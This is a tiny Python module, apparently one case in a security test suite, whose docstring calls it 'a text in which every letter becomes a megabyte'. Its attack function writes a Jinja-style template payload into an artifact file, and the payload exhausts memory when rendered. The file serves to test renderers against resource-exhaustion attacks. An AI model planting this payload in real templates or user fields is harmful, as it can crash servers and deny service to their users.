"""A text in which every letter becomes a megabyte."""

from __future__ import annotations

from pathlib import Path

import hostile

CODE = "template"


def attack(artifact: Path) -> None:
    hostile.put_template(artifact, "{% set m = 'a' * 900000 %}{{ m.replace('a', m) }}")
